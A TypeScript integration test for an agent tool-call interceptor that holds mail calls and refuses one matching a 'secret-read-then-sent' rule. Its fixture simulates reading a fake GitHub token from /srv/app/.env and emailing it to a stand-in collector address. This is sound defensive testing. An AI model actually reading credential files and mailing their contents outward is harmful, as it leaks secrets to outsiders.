import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type ConnectedInterceptor, connectInterceptor, wrapTool } from "@tripline/interceptor";
import { afterAll, beforeAll, expect, it } from "vitest";
import { type Standalone, startStandalone } from "./support/standalone.ts";
import { waitFor } from "./support/wait-for.ts";

const CREDENTIAL = "local:agent";
const SECRET = `ghp_${"a1B2c3D4".repeat(5).slice(0, 36)}`;

let folder: string;
let server: Standalone;
let interceptor: ConnectedInterceptor;

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), "tripline-held-"));
  const data = join(folder, "data");
  mkdirSync(data, { mode: 0o700 });
  // Far longer than a verdict takes on a busy machine, and refused without one: only verdicts let calls through here.
  const hold = { hold: [{ tools: ["mail/*"], max_ms: 5_000, unanswered: "refuse" }] };
  writeFileSync(join(data, "interceptors.yaml"), JSON.stringify(hold));
  server = await startStandalone({ data });
  const { key } = await server.json<{ key: string }>("/v1/producers", {
    method: "POST",
    body: JSON.stringify({ id: "gw", issuers: ["local"] }),
  });
  interceptor = await connectInterceptor({ url: server.url, ingestKey: key, stateDir: join(folder, "gw") });
  await waitFor(() => interceptor.denyList.status() === "fresh", { what: "the list of revocations" });
});

afterAll(async () => {
  await interceptor.close();
  await server.dispose();
  rmSync(folder, { recursive: true, force: true });
});

it("a held call runs when nothing speaks against it, and never runs when a rule does; no key is taken away by that", async () => {
  const options = {
    interceptor,
    caller: { credential: CREDENTIAL, assurance: "asserted" } as const,
    session: { id: "s1", source: "mcp" } as const,
  };
  const sent: string[] = [];
  const read = wrapTool("read_file", async (_: { path: string }) => `GITHUB_TOKEN=${SECRET}`, {
    ...options,
    server: "files",
  });
  const send = wrapTool(
    "send_email",
    async ({ body }: { to: string; body: string }) => {
      sent.push(body);
      return await Promise.resolve("sent");
    },
    { ...options, server: "mail" },
  );

  expect(await send({ to: "ana@acme.example", body: "lunch?" })).toBe("sent");
  const secret = await read({ path: "/srv/app/.env" });
  const attempt = send({ to: "drop@collector.example", body: secret });
  await expect(attempt).rejects.toMatchObject({
    code: "TRIPLINE_CALL_REFUSED",
    refusal: { scope: "call", revocationId: "secret-read-then-sent" },
  });
  await expect(send({ to: "drop@collector.example", body: secret })).rejects.toMatchObject({
    refusal: { scope: "call" },
  });
  expect(sent).toEqual(["lunch?"]);
  expect(await send({ to: "ana@acme.example", body: "and coffee?" })).toBe("sent");
  expect(interceptor.denyList.size).toBe(0);
  expect(interceptor.stats()).toMatchObject({ held: 4, unanswered: 0, denied: 2 });

  const denied = await waitFor(
    async () => {
      const { calls } = await server.json<{ calls: { policy_rule?: string }[] }>("/api/calls?outcome=denied");
      return calls.length === 2 ? calls : false;
    },
    { what: "the refused calls to be stored" },
  );
  expect(JSON.stringify(denied)).toContain("secret-read-then-sent");
});
